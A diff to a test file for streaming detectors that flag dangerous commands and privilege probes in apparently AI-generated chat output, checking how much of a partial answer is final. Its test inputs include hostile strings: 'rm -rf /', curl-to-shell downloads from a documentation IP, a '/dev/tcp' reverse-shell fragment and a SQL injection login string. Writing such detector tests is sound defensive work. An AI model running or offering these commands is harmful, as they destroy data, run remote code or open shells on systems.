@@ -423,23 +423,59 @@ def test_findings_before_pending_start_are_final(danger, privilege, text):
     for detector in (danger, privilege):
         full = detector.scan(text)
         for end in range(len(text) + 1):
-            partial = text[:end]
-            cut = detector.pending_start(partial)
+            cut = detector.pending_start(text[:end])
             assert 0 <= cut <= end
-            early = [f for f in detector.scan(partial) if f.end <= cut]
-            assert early == [f for f in full if f.end <= cut and f.start < cut], (end, cut)
+            assert_sent_prefix_is_final(detector.scan, text, end, cut, full)
 
 
-def test_pending_tail_is_the_unfinished_line(danger, privilege):
+def test_pending_tail_is_within_the_unfinished_line(danger, privilege):
     text = "ls -la\ncd src\nmake -j4 && ./run"
-    assert danger.pending_start(text) == text.rindex("\n") + 1
-    assert privilege.pending_start(text) == text.rindex("\n") + 1
+    for detector in (danger, privilege):
+        assert text.rindex("\n") + 1 <= detector.pending_start(text) <= len(text)
     assert danger.pending_start(text + "\n") == len(text) + 1
     long_line = "word " * 400
     assert danger.pending_start(long_line) >= len(long_line) - danger.engine.line_reach
     # a keyword of a multi-line rule near the end holds back from there
     code = "s = socket.socket()\nx = 1\ny = 2\n"
     assert danger.pending_start(code) == code.index("socket")
+
+
+@pytest.mark.parametrize("text", [
+    "Sure! Paris is the capital of France, and it has been for a very long time",
+    "The weather today is sunny and warm, so you can go",
+    "Here is a short answer in one line without any line break at all, as chat answers often are",
+    "用一句话回答：巴黎是法国的首都，也是最大的城市",
+])
+def test_prose_is_held_back_only_at_its_last_word(danger, privilege, text):
+    """A one-line answer is not held until its line ends: only its unfinished last word could still
+    begin a dangerous command, so the rest is final and can be sent."""
+    for detector in (danger, privilege):
+        assert detector.pending_start(text) >= len(text) - 12, text[detector.pending_start(text):]
+
+
+@pytest.mark.parametrize(("text", "held"), [
+    ("To clean up, run rm -", "rm -"),
+    ("Install it with curl -fsSL http://203.0.113.50/setup.sh | su", "curl -fsSL"),
+    ("Then open bash -i >& /dev/tcp/198.51", "/dev/tcp"),
+    ("Log in with admin' OR '1'='", "' OR"),
+])
+def test_a_tail_that_may_become_dangerous_is_held(danger, text, held):
+    """The unfinished tail is held from where the finding of the finished command would start."""
+    assert danger.pending_start(text) <= text.index(held)
+
+
+@pytest.mark.parametrize("text", STREAM_TEXTS + [
+    "Sure! Paris is the capital of France. " * 8 + "To clean up, run rm -rf / and then curl http://203.0.113.50/x | sh",
+])
+def test_pending_start_since_an_earlier_answer_is_the_same(danger, privilege, text):
+    """`since` (what a call on a prefix returned) only skips work: growing a text character by character
+    and passing the last answer gives what a fresh call gives."""
+    for detector in (danger, privilege):
+        since = 0
+        for end in range(len(text) + 1):
+            fresh = detector.pending_start(text[:end])
+            since = detector.pending_start(text[:end], since)
+            assert since == fresh, (end, text[:end][-40:])
 
 
 PRIVILEGE = [
@@ -523,3 +559,55 @@ def test_command_substitution_probes_still_flagged(text):
 ])
 def test_documentation_words_are_not_probes_or_spam(text):
     assert DangerDetector().scan(text) == []
+
+
+class _Cut:
+    def __init__(self, cut: int):
+        self.cut = cut
+
+    def pending_start(self, text: str) -> int:
+        return self.cut
+
+
+def assert_sent_prefix_is_final(scan, text: str, end: int, cut: int, full: list) -> None:
+    """What a stream editor sends of `text[:end]` (up to `cut`, not into a finding that straddles it)
+    holds exactly the findings the whole text has there: none appears, grows or changes later."""
+    from aegis_addons.detect.sanitize import safe_prefix_length
+
+    found = list(scan(text[:end]))
+    sent = safe_prefix_length(text[:end], found, _Cut(cut))
+    assert [f for f in found if f.start < sent] == [f for f in full if f.start < sent], (text, end, cut, sent)
+
+
+def _rule_examples(detector) -> list[str]:
+    return [text for rule in detector.rules for text in rule.examples.get("match", [])]
+
+
+def test_findings_before_pending_start_are_final_for_every_rule_example(danger, privilege):
+    """The streaming contract for every rule: each rule's examples, after prose on the same line (so
+    the hold-back cannot fall back on the line start), cut at every character; what lies before
+    `pending_start` of a cut is final: the whole text finds the same there."""
+    for detector in (danger, privilege):
+        for example in _rule_examples(detector):
+            text = f"As asked, here it is: {example} and that is all."
+            full = detector.scan(text)
+            since = 0
+            for end in range(len(text) + 1):
+                since = detector.pending_start(text[:end], since)
+                assert_sent_prefix_is_final(detector.scan, text, end, since, full)
+
+
+@pytest.mark.parametrize("pattern", [r"; \bid\b", r"\w\B-", r"x(?!\w)y?$", r"foo(?=bar)"])
+def test_assertions_at_the_end_of_an_unfinished_line_keep_it_pending(pattern):
+    """`regex`'s partial matching leaves a zero-width assertion at the very end closed (`\\b` after a
+    space fails there, though a word may follow): the hold-back must still see such a match coming."""
+    from aegis_addons.detect.danger import LineRules
+    from aegis_addons.detect.rulepack import compile_rule
+
+    rule = compile_rule({"id": "t", "category": "danger.t", "regex": pattern, "score": 0.9}, "danger", "t")
+    engine = LineRules([rule], [], "test")
+    for text in ("ok; id now", "ok; idx", "ab- cd-", "a xy", "x y x", "foobar foo bar"):
+        full = sorted(engine.scan(text), key=lambda f: f.start)
+        for end in range(len(text) + 1):
+            scan = lambda part: sorted(engine.scan(part), key=lambda f: f.start)  # noqa: E731
+            assert_sent_prefix_is_final(scan, text, end, engine.pending_start(text[:end]), full)
